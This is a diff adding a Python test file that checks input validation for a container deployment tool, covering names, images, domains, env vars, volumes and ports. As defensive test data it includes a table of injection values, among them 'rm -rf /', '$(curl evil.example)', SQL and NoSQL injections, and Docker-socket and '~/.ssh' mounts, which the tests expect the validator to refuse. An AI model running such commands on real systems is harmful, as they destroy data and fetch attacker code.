@@ -1,0 +1,608 @@
+"""The validation rules of SPEC.md, as properties and as a table of hostile inputs."""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import Any
+from uuid import UUID
+
+import msgspec
+import pytest
+import strategies as s
+from berth.core import types
+from berth.core.commands import DEFAULT_PORT, parse_create_server, parse_deploy
+from berth.core.errors import InvalidInput
+from berth.core.types import (
+    AppName,
+    Domain,
+    EnvKey,
+    ImageRef,
+    Port,
+    RuleError,
+    Volume,
+    check_address,
+    check_domain,
+    check_email,
+    check_env_key,
+    check_env_value,
+    check_idempotency_key,
+    check_image,
+    check_name,
+    check_port,
+    check_server_name,
+    check_uuid,
+    check_volume,
+    sanitize_container_name,
+)
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+DOCKER_NAME = re.compile(r"[a-zA-Z0-9][a-zA-Z0-9_.-]+")
+OUR_NAME = re.compile(r"[a-z0-9](?:[a-z0-9_.-]*[a-z0-9])?")
+
+
+def refuses(check: Any, value: object) -> bool:
+    try:
+        check(value)
+    except RuleError:
+        return True
+    return False
+
+
+def converts(value: object, alias: Any) -> bool:
+    try:
+        msgspec.convert(value, alias, strict=True)
+    except msgspec.ValidationError:
+        return False
+    return True
+
+
+def errors_of(raw: object) -> list[tuple[str, str]]:
+    with pytest.raises(InvalidInput) as info:
+        parse_deploy(raw)
+    return [(e.location, e.message) for e in info.value.errors]
+
+
+def valid_body(**over: Any) -> dict[str, Any]:
+    body: dict[str, Any] = {
+        "serverId": "123e4567-e89b-12d3-a456-426614174000",
+        "name": "my-app",
+        "image": "nginx:1.27",
+    }
+    body.update(over)
+    return body
+
+
+class TestContainerNames:
+    @given(st.text(max_size=120))
+    @example("İstanbul")
+    @example("\u212aelvin")  # KELVIN SIGN lowercases to ASCII k
+    @example("a--__..--b")
+    @example("--a--")
+    def test_sanitize_yields_docker_name_or_refuses(self, name: str) -> None:
+        """Sanitizing yields a valid, tidy Docker name or raises RuleError."""
+        try:
+            out = sanitize_container_name(name)
+        except RuleError:
+            return
+        assert DOCKER_NAME.fullmatch(out)
+        assert OUR_NAME.fullmatch(out)
+        assert "--" not in out
+        assert out[0] not in "-._"
+        assert out[-1] not in "-._"
+
+    @given(s.app_names())
+    def test_sanitize_is_idempotent(self, name: str) -> None:
+        """Sanitizing a sanitized name changes nothing."""
+        once = sanitize_container_name(name)
+        assert sanitize_container_name(once) == once
+
+    @given(s.app_names())
+    def test_valid_names_are_accepted_as_given(self, name: str) -> None:
+        """A valid app name is kept exactly as given; only the container name is derived."""
+        assert check_name(name) == name
+
+    @given(s.bad_app_names)
+    def test_bad_names_are_refused(self, name: object) -> None:
+        """Empty, too long, NUL, non-string, or nothing left after sanitizing: refused."""
+        assert refuses(check_name, name)
+
+    @pytest.mark.parametrize(
+        ("name", "container"),
+        [
+            ("My App", "my-app"),
+            ("  My   App!! ", "my-app"),
+            ("web_1.prod", "web_1.prod"),
+            ("--Web--", "web"),
+            ("a/b\\c", "a-b-c"),
+            ("Ünïcödé app", "n-c-d-app"),
+            ("$(reboot)x", "reboot-x"),
+        ],
+    )
+    def test_known_sanitizations(self, name: str, container: str) -> None:
+        """Examples from SPEC.md's rule give the expected container names."""
+        assert sanitize_container_name(name) == container
+
+    def test_name_length_is_in_characters(self) -> None:
+        """The 1-100 limit counts characters, so 100 multi-byte characters are fine."""
+        name = "ab" + "é" * 98
+        assert check_name(name) == name
+        assert refuses(check_name, name + "é")
+
+
+class TestImages:
+    @given(s.images())
+    @example("nginx:1.27")
+    @example("localhost:5000/team/app:v1@sha256:" + "a" * 64)
+    @example("ghcr.io/org/app__x--y:2.1")
+    def test_accepted_images_round_trip(self, image: str) -> None:
+        """A valid image reference is returned unchanged."""
+        assert check_image(image) == image
+
+    @given(s.half(s.images(), st.one_of(st.text(max_size=80), s.bad_images)))
+    def test_accepted_images_always_have_a_tag(self, image: object) -> None:
+        """Whatever is accepted carries an explicit tag; there is no implicit latest."""
+        if refuses(check_image, image):
+            return
+        assert isinstance(image, str)
+        name = image.split("@", 1)[0]
+        assert ":" in name.rsplit("/", 1)[-1]
+        assert not name.endswith(":")
+
+    @given(s.bad_images)
+    def test_bad_images_are_refused(self, image: object) -> None:
+        """No tag, uppercase path, whitespace, shell characters, non-strings: refused."""
+        assert refuses(check_image, image)
+
+    def test_missing_tag_message_says_so(self) -> None:
+        """A tag-less image gets a message that asks for a tag."""
+        with pytest.raises(RuleError, match="tag is required"):
+            check_image("ghcr.io/org/app")
+
+    @pytest.mark.parametrize(
+        "image",
+        ["a" * 511 + "!", "a-" * 255 + "!", "a." * 200 + "a:" + "b" * 100 + "!", "a.a/" * 127],
+    )
+    def test_long_hostile_images_are_refused_quickly(self, image: str) -> None:
+        """Near-limit adversarial strings do not make the regex backtrack for long."""
+        start = time.perf_counter()
+        assert refuses(check_image, image)
+        assert time.perf_counter() - start < 0.05
+
+
+class TestDomains:
+    @given(s.domains)
+    def test_domains_are_lowercased_and_obey_label_rules(self, domain: str) -> None:
+        """A valid domain comes back lowercased with 2+ labels of 1-63 [a-z0-9-]."""
+        out = check_domain(domain)
+        assert out == domain.lower()
+        labels = out.split(".")
+        assert len(labels) >= 2
+        assert len(out) <= 253
+        for label in labels:
+            assert 1 <= len(label) <= 63
+            assert re.fullmatch(r"[a-z0-9-]+", label)
+            assert not label.startswith("-")
+            assert not label.endswith("-")
+
+    @given(s.bad_domains)
+    def test_bad_domains_are_refused(self, domain: object) -> None:
+        """One label, empty or 64-character labels, edge dashes, >253, Unicode: refused."""
+        assert refuses(check_domain, domain)
+
+    def test_253_characters_is_the_limit(self) -> None:
+        """A 253-character domain is accepted, 254 is not."""
+        ok = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 61])
+        assert len(ok) == 253
+        assert check_domain(ok) == ok
+        assert refuses(check_domain, ok + "d")
+
+
+class TestEnv:
+    @given(s.env_keys)
+    def test_valid_keys_are_accepted(self, key: str) -> None:
+        """Keys matching ^[A-Za-z_][A-Za-z0-9_]*$ up to 256 characters are accepted."""
+        assert check_env_key(key) == key
+
+    @given(s.bad_env_keys)
+    def test_bad_keys_are_refused(self, key: str) -> None:
+        """Empty keys, leading digits, other characters and 257+ characters are refused."""
+        assert refuses(check_env_key, key)
+
+    @given(s.env_values)
+    @example("$(rm -rf /)")
+    @example('it\'s "quoted" `cmd` ${VAR} $VAR \\n\n\r\n\t')
+    @example("é🚀\u202e\u200b")
+    def test_values_round_trip_byte_for_byte(self, value: str) -> None:
+        """Any value without NUL up to 32 KiB comes back identical, byte for byte."""
+        out = check_env_value(value)
+        assert out.encode("utf-8") == value.encode("utf-8")
+
+    @given(s.env_values, s.env_values)
+    def test_nul_is_refused(self, before: str, after: str) -> None:
+        """A NUL anywhere in a value is refused."""
+        assert refuses(check_env_value, before + "\x00" + after)
+
+    @pytest.mark.parametrize("value", ["x" * (32 * 1024 + 1), "é" * (16 * 1024) + "x", "🚀" * 8193])
+    def test_oversize_is_refused(self, value: str) -> None:
+        """More than 32 KiB of UTF-8 is refused, counted in bytes, not characters."""
+        assert refuses(check_env_value, value)
+
+    def test_lone_surrogate_is_refused(self) -> None:
+        """A string that is not valid Unicode is refused, not crashed on."""
+        assert refuses(check_env_value, "a\ud800b")
+
+    def test_non_string_key_is_refused(self) -> None:
+        """A library caller passing a non-string key gets a RuleError, not a TypeError."""
+        assert refuses(check_env_key, 1)
+
+
+class TestVolumes:
+    @given(s.volumes())
+    def test_accepted_volumes_are_safe(self, volume: str) -> None:
+        """An accepted volume has no `..` segment, an absolute container path and no socket."""
+        spec = check_volume(volume)
+        for path in (spec.host_path, spec.container_path):
+            assert ".." not in path.split("/")
+        assert spec.container_path.startswith("/")
+        assert spec.container_path != "/"
+        assert spec.host_path not in ("/", "/var/run/docker.sock", "/run/docker.sock")
+        assert spec.read_only == volume.endswith(":ro")
+        assert spec.is_relative == (not volume.startswith("/"))
+
+    @pytest.mark.parametrize("host", [*s.DOCKER_SOCKET_SPELLINGS, "/", "//", "/.", "/./", "///"])
+    @pytest.mark.parametrize("mode", ["", ":ro", ":rw"])
+    def test_root_and_docker_socket_are_refused_in_any_spelling(self, host: str, mode: str) -> None:
+        """`/`, the Docker socket and every directory holding it are refused, however spelt."""
+        assert refuses(check_volume, f"{host}:/mnt{mode}")
+
+    @given(s.bad_volumes)
+    def test_bad_volumes_are_refused(self, volume: object) -> None:
+        """`..`, relative container paths, bad modes, odd characters, non-strings: refused."""
+        assert refuses(check_volume, volume)
+
+    @pytest.mark.parametrize(
+        "volume",
+        ["data:/data", "./data:/data:ro", "/srv/app:/app:rw", "/var/lib/x@1+2:/x", "/run/user:/u"],
+    )
+    def test_examples_are_accepted(self, volume: str) -> None:
+        """Ordinary relative and absolute bind mounts are accepted."""
+        check_volume(volume)
+
+
+class TestPortsAndIds:
+    @given(s.ports)
+    def test_ports_in_range_are_accepted(self, port: int) -> None:
+        """Every integer 1-65535 is a port."""
+        assert check_port(port) == port
+
+    @given(s.bad_ports)
+    def test_bad_ports_are_refused(self, port: object) -> None:
+        """Out of range, booleans, floats (even 80.0), strings and null are refused."""
+        assert refuses(check_port, port)
+
+    @given(s.uuid_texts)
+    def test_uuids_parse_in_any_case(self, text: str) -> None:
+        """A canonical UUID in either case parses to the same UUID."""
+        assert check_uuid(text) == UUID(text)
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "123e4567e89b12d3a456426614174000",
+            "{123e4567-e89b-12d3-a456-426614174000}",
+            "urn:uuid:123e4567-e89b-12d3-a456-426614174000",
+            "123e4567-e89b-12d3-a456-426614174000\n",
+            " 123e4567-e89b-12d3-a456-426614174000",
+            "123e4567-e89b-12d3-a456-42661417400g",
+            "",
+        ],
+    )
+    def test_non_canonical_uuids_are_refused(self, text: str) -> None:
+        """Only the canonical 36-character form is accepted, and never with a crash."""
+        assert refuses(check_uuid, text)
+
+
+class TestAliasesAgreeWithChecks:
+    """The msgspec.Meta aliases (what OpenAPI shows) never refuse what a check accepts."""
+
+    @given(s.half(s.images(), st.one_of(s.bad_images, st.text(max_size=40))))
+    def test_image(self, value: object) -> None:
+        """check_image accepts → msgspec accepts ImageRef."""
+        if refuses(check_image, value):
+            return
+        assert converts(value, ImageRef)
+
+    @given(s.half(s.domains, st.one_of(s.bad_domains, st.text(max_size=40))))
+    def test_domain_in_both_cases(self, value: object) -> None:
+        """check_domain accepts → msgspec accepts both the input and the lowercased output."""
+        if refuses(check_domain, value):
+            return
+        assert converts(value, Domain)
+        assert converts(check_domain(value), Domain)
+
+    @given(s.half(s.env_keys, st.one_of(s.bad_env_keys, st.text(max_size=10))))
+    def test_env_key(self, value: str) -> None:
+        """check_env_key accepts → msgspec accepts EnvKey."""
+        if refuses(check_env_key, value):
+            return
+        assert converts(value, EnvKey)
+
+    @given(s.half(s.ports, st.one_of(s.bad_ports, s.non_strings)))
+    def test_port_both_ways(self, value: object) -> None:
+        """check_port and msgspec's strict Port agree in both directions."""
+        assert (not refuses(check_port, value)) == converts(value, Port)
+
+    @given(s.half(s.volumes(), s.bad_volumes))
+    def test_volume(self, value: object) -> None:
+        """check_volume accepts → msgspec accepts Volume."""
+        if refuses(check_volume, value):
+            return
+        assert converts(value, Volume)
+
+    @given(s.half(s.app_names(), s.bad_app_names))
+    def test_app_name(self, value: object) -> None:
+        """check_name accepts → msgspec accepts AppName."""
+        if refuses(check_name, value):
+            return
+        assert converts(value, AppName)
+
+    @pytest.mark.parametrize(
+        ("check", "alias", "value"),
+        [
+            (check_image, ImageRef, "nginx:1.27\n"),
+            (check_domain, Domain, "example.com\n"),
+            (check_env_key, EnvKey, "KEY\n"),
+        ],
+    )
+    def test_checks_are_stricter_than_dollar_anchors(
+        self, check: Any, alias: Any, value: str
+    ) -> None:
+        """A trailing newline slips past a `$`-anchored Meta pattern but not past the check."""
+        assert converts(value, alias)  # msgspec: re.search with `$`
+        assert refuses(check, value)
+
+
+BAD_FIELDS: dict[str, st.SearchStrategy[Any]] = {
+    "serverId": st.one_of(st.text(max_size=10), s.non_strings),
+    "name": s.bad_app_names,
+    "image": s.bad_images,
+    "port": s.bad_ports,
+    "domain": s.bad_domains.filter(lambda v: v is not None),
+    "env": st.one_of(
+        s.non_strings.filter(lambda v: v is not None and not isinstance(v, dict)),
+        st.builds(lambda k: {k: "v"}, s.bad_env_keys),
+        st.builds(lambda k: {k: "a\x00b"}, s.env_keys),
+        st.builds(lambda k, v: {k: v}, s.env_keys, s.non_strings.filter(lambda v: v is not None)),
+    ),
+    "volumes": st.one_of(
+        s.non_strings.filter(lambda v: v is not None and not isinstance(v, list)),
+        st.builds(lambda v: [v], s.bad_volumes),
+        st.builds(lambda v: [v, v], s.volumes()),  # same container path twice
+    ),
+}
+
+
+class TestParseDeploy:
+    @given(s.deploy_bodies())
+    def test_valid_bodies_parse(self, body: dict[str, Any]) -> None:
+        """A valid body becomes a command that keeps every value exactly."""
+        cmd = parse_deploy(body, idempotency_key="k1")
+        assert cmd.server_id == UUID(body["serverId"])
+        assert cmd.name == body["name"]
+        assert cmd.container_name == sanitize_container_name(body["name"])
+        assert cmd.image == body["image"]
+        assert cmd.port == body.get("port", DEFAULT_PORT)
+        domain = body.get("domain")
+        assert cmd.domain == (domain.lower() if domain else None)
+        assert cmd.env == (body.get("env") or {})
+        assert cmd.volumes == tuple(body.get("volumes") or ())
+        assert cmd.idempotency_key == "k1"
+
+    @given(s.deploy_bodies(), st.data())
+    def test_every_bad_field_is_reported_at_once(
+        self, body: dict[str, Any], data: st.DataObject
+    ) -> None:
+        """A body with k independent bad fields yields exactly k errors, one per field."""
+        broken = data.draw(st.sets(st.sampled_from(sorted(BAD_FIELDS)), min_size=1))
+        for field in broken:
+            body[field] = data.draw(BAD_FIELDS[field], label=field)
+        locations = [loc for loc, _ in errors_of(body)]
+        assert len(locations) == len(broken)
+        fields = {re.split(r"[.\[]", loc.removeprefix("body."), maxsplit=1)[0] for loc in locations}
+        assert fields == broken
+        assert all(loc.startswith("body.") for loc in locations)
+
+    @given(s.deploy_bodies(), st.sets(st.sampled_from(["serverId", "name", "image"]), min_size=1))
+    def test_missing_required_fields_are_each_reported(
+        self, body: dict[str, Any], missing: set[str]
+    ) -> None:
+        """Every missing required field gets its own error."""
+        for field in missing:
+            del body[field]
+        assert {loc for loc, _ in errors_of(body)} == {f"body.{f}" for f in missing}
+
+    @given(
+        s.deploy_bodies(),
+        st.dictionaries(
+            st.text(min_size=1, max_size=10).filter(
+                lambda k: k not in valid_body(port=1, domain=1, env=1, volumes=1)
+            ),
+            s.non_strings,
+            min_size=1,
+            max_size=3,
+        ),
+    )
+    def test_unknown_fields_are_reported(self, body: dict[str, Any], extra: dict[str, Any]) -> None:
+        """Each unknown field is an error of its own, located by its name."""
+        body.update(extra)
+        assert {loc for loc, _ in errors_of(body)} == {f"body.{k}" for k in extra}
+
+    @pytest.mark.parametrize("raw", [None, [], [{}], "body", 42, 1.5, True, b"{}"])
+    def test_non_object_body_is_one_error(self, raw: object) -> None:
+        """A body that is not an object is reported once, at `body`."""
+        assert [loc for loc, _ in errors_of(raw)] == ["body"]
+
+    @pytest.mark.parametrize("port", ["80", True, False, 80.5, 80.0, 0, 65536, -1, None, [80]])
+    def test_wrong_port_types_are_refused(self, port: object) -> None:
+        """A port must be a JSON integer; strings, booleans and floats are refused."""
+        assert [loc for loc, _ in errors_of(valid_body(port=port))] == ["body.port"]
+
+    def test_env_errors_name_the_key(self) -> None:
+        """Env errors point at the offending key, and every one is listed."""
+        env = {"OK": "1", "1BAD": "x", "NUL": "a\x00", "LIST": ["x"], "ALSO_OK": "$(id)"}
+        locs = sorted(loc for loc, _ in errors_of(valid_body(env=env)))
+        assert locs == ["body.env.1BAD", "body.env.LIST", "body.env.NUL"]
+
+    def test_volume_errors_name_the_index(self) -> None:
+        """Volume errors point at the offending index, and every one is listed."""
+        vols = ["data:/data", "/:/host", "x:/data", "/var/run/docker.sock:/s", 7]
+        locs = [loc for loc, _ in errors_of(valid_body(volumes=vols))]
+        assert locs == ["body.volumes[1]", "body.volumes[2]", "body.volumes[3]", "body.volumes[4]"]
+
+    def test_too_many_env_keys_and_volumes(self) -> None:
+        """More than 200 env keys or 100 volumes is refused."""
+        env = {f"K{i}": "v" for i in range(types.ENV_MAX_KEYS + 1)}
+        vols = [f"d{i}:/d{i}" for i in range(types.VOLUMES_MAX + 1)]
+        locs = sorted(loc for loc, _ in errors_of(valid_body(env=env, volumes=vols)))
+        assert locs == ["body.env", "body.volumes"]
+
+    def test_null_optionals_mean_absent(self) -> None:
+        """`null` for domain, env and volumes means the default."""
+        cmd = parse_deploy(valid_body(domain=None, env=None, volumes=None))
+        assert (cmd.domain, cmd.env, cmd.volumes, cmd.port) == (None, {}, (), DEFAULT_PORT)
+
+    def test_echoed_values_are_short_and_json_safe(self) -> None:
+        """Errors echo at most ~200 characters and never objects, bytes or huge ints."""
+        body = {
+            "serverId": 2**80,
+            "name": "x" * 5000,
+            "image": {"nested": "object"},
+            "port": b"80",
+        }
+        errors = {e.location: e.value for e in _invalid(body).errors}
+        assert errors["body.serverId"] is None
+        assert isinstance(errors["body.name"], str)
+        assert len(errors["body.name"]) <= 201
+        assert errors["body.image"] is None
+        assert errors["body.port"] is None
+        msgspec.json.encode([e.value for e in _invalid(body).errors])
+
+
+def _invalid(raw: object) -> InvalidInput:
+    with pytest.raises(InvalidInput) as info:
+        parse_deploy(raw)
+    return info.value
+
+
+HOSTILE: list[tuple[str, object]] = [
+    ("name", "a\x00b"),
+    ("name", "\u200b\u200b"),
+    ("name", "x" * 101),
+    ("name", {"$ne": ""}),
+    ("name", ["web"]),
+    ("image", "nginx:1.27; rm -rf /"),
+    ("image", "nginx:1.27\nFROM evil"),
+    ("image", "$(curl evil.example)"),
+    ("image", "`id`:latest"),
+    ("image", "\uff4e\uff47\uff49\uff4e\uff58:1"),
+    ("image", "nginx"),
+    ("image", "nginx:1.27 "),
+    ("image", "x" * 100_000),
+    ("image", {"repository": "nginx", "tag": "1"}),
+    ("domain", "ex\u0430mple.com"),
+    ("domain", "example.com\n"),
+    ("domain", "example.com; rm -rf /"),
+    ("domain", "a.b\u2028c"),
+    ("domain", "*.example.com"),
+    ("domain", "example.com/../../"),
+    ("domain", ["example.com"]),
+    ("port", "80; rm -rf /"),
+    ("port", {"value": 80}),
+    ("port", 10**40),
+    ("serverId", "123e4567-e89b-12d3-a456-426614174000\n"),
+    ("serverId", "' OR 1=1 --"),
+    ("serverId", {"$gt": ""}),
+    ("env", {"A;B": "x"}),
+    ("env", {"PATH\n": "x"}),
+    ("env", {"A": {"nested": "object"}}),
+    ("env", {"A": "x" * 40_000}),
+    ("env", [["A", "x"]]),
+    ("env", "A=1"),
+    ("volumes", ["/data\n:/x"]),
+    ("volumes", ["/data:/x\n"]),
+    ("volumes", ["/data:/x;id"]),
+    ("volumes", ["$(pwd):/x"]),
+    ("volumes", ["~/.ssh:/x"]),
+    ("volumes", ["/data:/x:z"]),
+    ("volumes", ["//var/run/docker.sock:/var/run/docker.sock"]),
+    ("volumes", ["/var/run/../run/docker.sock:/s"]),
+    ("volumes", [["/a", "/b"]]),
+    ("volumes", "/a:/b"),
+    ("volumes", ["/\u0430:/b"]),
+]
+
+
+class TestHostileInputs:
+    @pytest.mark.parametrize(
+        ("field", "value"), HOSTILE, ids=[f"{f}-{i}" for i, (f, _) in enumerate(HOSTILE)]
+    )
+    def test_hostile_value_is_one_error_at_its_field(self, field: str, value: object) -> None:
+        """A hostile value is refused with exactly one error located at its field."""
+        locs = [loc for loc, _ in errors_of(valid_body(**{field: value}))]
+        assert len(locs) == 1
+        assert locs[0] == f"body.{field}" or locs[0].startswith(
+            (f"body.{field}.", f"body.{field}[")
+        )
+
+    @pytest.mark.parametrize("value", s.HOSTILE_STRINGS)
+    def test_hostile_env_values_are_kept_verbatim(self, value: str) -> None:
+        """Env values are data, not shell: hostile text is accepted and kept as is."""
+        assert parse_deploy(valid_body(env={"V": value})).env == {"V": value}
+
+
+class TestOtherChecks:
+    @pytest.mark.parametrize(
+        "address", ["fe80::1%$(reboot)", "fe80::1%eth0;id", "a..b", "-a.com", "a b", "", "x" * 254]
+    )
+    def test_bad_addresses_are_refused(self, address: str) -> None:
+        """Addresses are hostnames or IPs; an IPv6 zone is an interface name, not a command."""
+        assert refuses(check_address, address)
+
+    @pytest.mark.parametrize(
+        ("address", "out"),
+        [
+            ("203.0.113.7", "203.0.113.7"),
+            ("2001:DB8::1", "2001:db8::1"),
+            ("Host.Example", "host.example"),
+            ("fe80::1%eth0", "fe80::1%eth0"),
+        ],
+    )
+    def test_good_addresses_are_normalized(self, address: str, out: str) -> None:
+        """IPs are canonicalized and hostnames lowercased."""
+        assert check_address(address) == out
+
+    def test_create_server_reports_every_field(self) -> None:
+        """parse_create_server lists every bad field at once, unknown ones included."""
+        with pytest.raises(InvalidInput) as info:
+            parse_create_server({"name": "", "address": "a b", "sshPort": "22", "x": 1})
+        locs = sorted(e.location for e in info.value.errors)
+        assert locs == ["body.address", "body.name", "body.sshPort", "body.x"]
+
+    @pytest.mark.parametrize("name", ["   ", "a\nb", "a\x7fb", "a\x85b", "x" * 101])
+    def test_bad_server_names_are_refused(self, name: str) -> None:
+        """Server names are 1-100 characters, not blank, without control characters."""
+        assert refuses(check_server_name, name)
+
+    @pytest.mark.parametrize(
+        "email", ["a", "a@b", "a@@b.c", "a b@c.d", "a@b.c\x00", "x" * 250 + "@b.co"]
+    )
+    def test_bad_emails_are_refused(self, email: str) -> None:
+        """Malformed email addresses are refused."""
+        assert refuses(check_email, email)
+
+    @pytest.mark.parametrize("key", ["", "a b", "é", "x" * 256, "a\nb"])
+    def test_bad_idempotency_keys_are_refused(self, key: str) -> None:
+        """Idempotency keys are 1-255 printable ASCII characters without spaces."""
+        assert refuses(check_idempotency_key, key)
